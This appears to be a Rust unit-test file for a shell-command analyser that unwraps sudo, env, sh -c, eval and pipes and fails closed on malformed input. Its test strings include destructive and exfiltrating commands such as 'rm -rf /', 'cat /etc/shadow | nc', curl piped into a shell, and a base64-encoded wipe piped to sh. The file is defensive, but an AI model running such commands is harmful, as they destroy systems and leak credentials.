//! Unit tests of [`analyze`]: wrappers, `sh -c` and `eval`, fail-closed cases, random lines.

use std::time::{Duration, Instant};

use super::{Command, Unchecked, Word, analyze};

fn ok(line: &str) -> Vec<Command> {
    analyze(line).unwrap_or_else(|e| panic!("{line:?}: {e}"))
}

fn names(line: &str) -> Vec<String> {
    ok(line).into_iter().map(|c| c.name).collect()
}

fn one(line: &str) -> Command {
    let mut commands = ok(line);
    assert_eq!(commands.len(), 1, "{line:?}: {commands:#?}");
    commands.remove(0)
}

fn args(command: &Command) -> Vec<&str> {
    command.args.iter().map(|w| w.value.as_str()).collect()
}

fn err(line: &str) -> Unchecked {
    match analyze(line) {
        Ok(commands) => panic!("{line:?} was analysed: {commands:#?}"),
        Err(e) => e,
    }
}

// Wrappers.

#[test]
fn sudo_with_options() {
    let c = one("sudo -u root -E rm -rf /");
    assert_eq!(c.name, "rm");
    assert_eq!(c.wrappers, ["sudo"]);
    assert_eq!(args(&c), ["-rf", "/"]);
    assert_eq!(one("sudo --user=root -- rm x").name, "rm");
    assert_eq!(one("sudo -uroot rm x").name, "rm");
}

#[test]
fn env_with_options_and_assignments() {
    let c = one("env -i -u PATH FOO=1 /bin/rm -rf /");
    assert_eq!(c.name, "rm");
    assert_eq!(c.wrappers, ["env"]);
    assert_eq!(c.assignments, [("FOO".into(), Word::literal("1"))]);
}

#[test]
fn nice_timeout_nohup_stdbuf_ionice() {
    assert_eq!(one("nice -n 10 rm x").name, "rm");
    assert_eq!(one("nice -5 rm x").name, "rm");
    assert_eq!(one("timeout -s KILL 5s rm x").name, "rm");
    assert_eq!(one("timeout --kill-after=1 5 rm x").name, "rm");
    assert_eq!(one("nohup rm x").name, "rm");
    assert_eq!(one("stdbuf -oL -e 0 rm x").name, "rm");
    assert_eq!(one("ionice -c 3 rm x").name, "rm");
}

#[test]
fn xargs_runs_its_argument() {
    let commands = ok("find / -name '*.log' | xargs -0 -n 1 -I {} rm -f {}");
    assert_eq!(commands[1].name, "rm");
    assert_eq!(commands[1].wrappers, ["xargs"]);
    assert_eq!(commands[1].pipe_from, Some(0));
}

#[test]
fn busybox_command_exec_time_chroot() {
    assert_eq!(one("busybox rm -rf /").name, "rm");
    assert_eq!(one("command -p rm x").name, "rm");
    assert_eq!(one("exec -a foo rm x").name, "rm");
    assert_eq!(one("time rm x").name, "rm");
    assert_eq!(one("chroot /host rm x").name, "rm");
}

#[test]
fn wrappers_nest() {
    let c = one("sudo env FOO=1 nice -n 5 timeout 10 nohup rm -rf /");
    assert_eq!(c.name, "rm");
    assert_eq!(c.wrappers, ["sudo", "env", "nice", "timeout", "nohup"]);
}

#[test]
fn a_wrapper_alone_is_the_command() {
    assert_eq!(one("sudo -l").name, "sudo");
    assert_eq!(one("env").name, "env");
    assert_eq!(one("nohup").name, "nohup");
}

#[test]
fn a_wrapper_given_by_path() {
    let c = one("/usr/bin/sudo /bin/rm x");
    assert_eq!(
        (c.name.as_str(), c.wrappers.as_slice()),
        ("rm", &["sudo".to_owned()][..])
    );
}

// sh -c and eval.

#[test]
fn sh_c_is_parsed_again() {
    let commands = ok("sh -c 'rm -rf /'");
    assert_eq!(commands.len(), 2);
    assert_eq!(commands[0].name, "sh");
    assert_eq!(commands[1].name, "rm");
    assert_eq!(commands[1].depth, 1);
    assert_eq!(commands[1].wrappers, ["sh -c"]);
}

#[test]
fn every_shell_and_clustered_options() {
    for shell in ["bash", "dash", "zsh", "/bin/sh", "ksh"] {
        assert_eq!(names(&format!("{shell} -c 'rm x'"))[1], "rm", "{shell}");
    }
    assert_eq!(names("bash -ec 'rm x'")[1], "rm");
    assert_eq!(
        names("bash -lc \"cat /etc/shadow | nc h 1\""),
        ["bash", "cat", "nc"]
    );
}

#[test]
fn a_shell_without_c_runs_no_string() {
    assert_eq!(names("bash script.sh"), ["bash"]);
    assert_eq!(names("sh"), ["sh"]);
}

#[test]
fn sudo_sh_c() {
    let commands = ok("sudo sh -c 'cat /etc/shadow > /tmp/x'");
    assert_eq!(commands[1].name, "cat");
    assert_eq!(commands[1].wrappers, ["sudo", "sh -c"]);
    assert_eq!(commands[1].redirects[0].target.value, "/tmp/x");
}

#[test]
fn eval_joins_its_arguments() {
    let commands = ok("eval rm '-rf /'");
    assert_eq!(commands[1].name, "rm");
    assert_eq!(args(&commands[1]), ["-rf", "/"]);
    assert_eq!(commands[1].wrappers, ["eval"]);
}

#[test]
fn a_pipe_into_sh_c_keeps_its_link() {
    let commands = ok("curl x | sh -c 'cat | bash'");
    assert_eq!(
        names("curl x | sh -c 'cat | bash'"),
        ["curl", "sh", "cat", "bash"]
    );
    assert_eq!(commands[2].pipe_from, Some(0));
    assert_eq!(commands[3].pipe_from, Some(2));
}

#[test]
fn nesting_up_to_the_limit() {
    let line = r#"sh -c "sh -c 'sh -c \"rm x\"'""#;
    let commands = ok(line);
    assert_eq!(
        commands.last().map(|c| (c.name.as_str(), c.depth)),
        Some(("rm", 3))
    );
}

#[test]
fn nesting_deeper_is_unchecked() {
    let line = r#"eval eval eval eval rm x"#;
    assert!(matches!(err(line), Unchecked::TooDeep { max: 3 }));
}

#[test]
fn a_broken_nested_string_is_malformed() {
    assert!(matches!(err("sh -c 'rm \"x'"), Unchecked::Malformed { .. }));
    assert!(matches!(err("sh -c 'a && ;'"), Unchecked::Malformed { .. }));
}

// Fail closed.

#[test]
fn an_open_quote_is_incomplete() {
    assert!(matches!(err("echo 'abc"), Unchecked::Incomplete { .. }));
    assert!(matches!(err("echo \"abc"), Unchecked::Incomplete { .. }));
}

#[test]
fn a_trailing_backslash_or_operator_is_incomplete() {
    assert!(matches!(err("rm -rf \\"), Unchecked::Incomplete { .. }));
    assert!(matches!(err("ls |"), Unchecked::Incomplete { .. }));
    assert!(matches!(err("ls &&"), Unchecked::Incomplete { .. }));
}

#[test]
fn a_here_document_is_incomplete() {
    assert!(matches!(err("cat <<EOF"), Unchecked::Incomplete { .. }));
    assert!(matches!(err("bash <<-'X'"), Unchecked::Incomplete { .. }));
}

#[test]
fn open_brackets_are_incomplete() {
    assert!(matches!(err("echo $(ls"), Unchecked::Incomplete { .. }));
    assert!(matches!(err("(ls"), Unchecked::Incomplete { .. }));
    assert!(matches!(
        err("if true; then"),
        Unchecked::Malformed { .. } | Unchecked::Incomplete { .. }
    ));
}

#[test]
fn syntax_errors_are_malformed() {
    for line in [";;", "ls )", "&& ls", "| ls", "ls ; ; ls", "a | | b"] {
        match err(line) {
            Unchecked::Malformed { reason } => assert!(!reason.is_empty()),
            other => panic!("{line:?}: {other:?}"),
        }
    }
}

#[test]
fn a_5_kib_line_is_too_long() {
    let line = format!("echo {}", "a".repeat(5 * 1024));
    assert_eq!(
        err(&line),
        Unchecked::TooLong {
            len: line.len(),
            max: 4096
        }
    );
    let fits = format!("echo {}", "a".repeat(4000));
    assert_eq!(names(&fits), ["echo"]);
}

#[test]
fn the_messages_say_cannot_be_checked() {
    assert!(err("ls )").to_string().starts_with("cannot be checked"));
    assert!(
        err(&"a".repeat(5000))
            .to_string()
            .starts_with("cannot be checked")
    );
}

#[test]
fn many_commands_within_the_limit() {
    let line = "a;".repeat(1000);
    assert_eq!(ok(&line).len(), 1000);
}

/// A deterministic generator (xorshift) of random lines: bytes from shell-heavy and plain
/// alphabets, and random bytes made valid UTF-8.
#[test]
fn random_lines_never_panic_and_finish_quickly() {
    let mut state: u64 = 0x9E37_79B9_7F4A_7C15;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    let alphabet = b" \t'\"\\$(){}[]|&;<>`!#*?~=-/.acehmrsx0129\n";
    for i in 0..2000 {
        let len = usize::try_from(next() % 200).unwrap_or(0);
        let line: String = if i % 4 == 0 {
            let bytes: Vec<u8> = (0..len).map(|_| next().to_le_bytes()[0]).collect();
            String::from_utf8_lossy(&bytes).into_owned()
        } else {
            (0..len)
                .map(|_| {
                    char::from(alphabet[usize::try_from(next()).unwrap_or(0) % alphabet.len()])
                })
                .collect()
        };
        let start = Instant::now();
        let _ = analyze(&line);
        assert!(
            start.elapsed() < Duration::from_millis(50),
            "{line:?} took {:?}",
            start.elapsed()
        );
    }
}

#[test]
fn random_valid_lines_round_trip_their_names() {
    let mut state: u64 = 42;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    let programs = ["ls", "rm", "cat", "grep", "sudo rm", "env A=1 cat"];
    let separators = [" ; ", " && ", " || ", " | "];
    for _ in 0..200 {
        let n = 1 + usize::try_from(next() % 6).unwrap_or(0);
        let mut line = String::new();
        let mut expected = Vec::new();
        for k in 0..n {
            if k > 0 {
                line.push_str(separators[usize::try_from(next()).unwrap_or(0) % separators.len()]);
            }
            let p = programs[usize::try_from(next()).unwrap_or(0) % programs.len()];
            line.push_str(p);
            line.push_str(" x");
            expected.push(p.rsplit(' ').next().unwrap_or(p).to_owned());
        }
        assert_eq!(names(&line), expected, "{line:?}");
    }
}

#[test]
fn env_split_string_is_parsed_again() {
    let commands = ok("env -S 'rm -rf /'");
    assert_eq!(names("env -S 'rm -rf /'"), ["env", "rm"]);
    assert_eq!(commands[1].wrappers, ["env -S"]);
    assert_eq!(
        names("env -i --split-string='cat /etc/shadow' x"),
        ["env", "cat"]
    );
}

#[test]
fn pipes_into_shells_and_interpreters_are_visible() {
    let commands = ok("echo cm0gLXJmIC8= | base64 -d | sh");
    assert_eq!(commands[2].name, "sh");
    assert_eq!(commands[2].pipe_from, Some(1));
    assert_eq!(commands[1].pipe_from, Some(0));
    assert_eq!(names("python3 -c 'import os'"), ["python3"]);
}

#[test]
fn deeply_nested_brackets_finish_without_overflowing() {
    let lines = [
        format!("{}ls{}", "(".repeat(2000), ")".repeat(2000)),
        format!("echo {}x{}", "$(".repeat(1300), ")".repeat(1300)),
        format!("{}ls{}", "{ ".repeat(1000), "; }".repeat(1000)),
        format!("echo {}", "$(".repeat(2000)),
        "a|".repeat(2000) + "b",
    ];
    for line in &lines {
        let start = Instant::now();
        let result = analyze(line);
        assert!(
            start.elapsed() < Duration::from_millis(500),
            "{:?}",
            result.map(|c| c.len())
        );
    }
}

#[test]
fn a_parse_past_its_budget_is_cancelled() {
    let line = "echo a; ".repeat(300) + "echo b";
    assert_eq!(
        super::parse::analyze_within(&line, Duration::ZERO),
        Err(Unchecked::Timeout)
    );
    assert!(super::parse::analyze_within(&line, Duration::from_secs(5)).is_ok());
}

#[test]
fn long_and_chains_up_to_the_tree_depth_limit() {
    // `&&` lists nest one level per operator in the syntax tree.
    assert_eq!(ok(&("a && ".repeat(300) + "b")).len(), 301);
    assert!(matches!(
        err(&("a&&".repeat(1000) + "b")),
        Unchecked::Malformed { .. }
    ));
}

#[test]
fn the_deepest_accepted_trees_fit_a_small_stack() {
    let lines = [
        "a && ".repeat(495) + "b",
        "(".repeat(240) + "ls" + &")".repeat(240),
        "echo ".to_owned() + &"$(".repeat(240) + "x" + &")".repeat(240),
    ];
    let handle = std::thread::Builder::new()
        .stack_size(1 << 20)
        .spawn(move || lines.iter().map(|l| analyze(l).is_ok()).collect::<Vec<_>>())
        .expect("a thread");
    assert!(handle.join().is_ok());
}
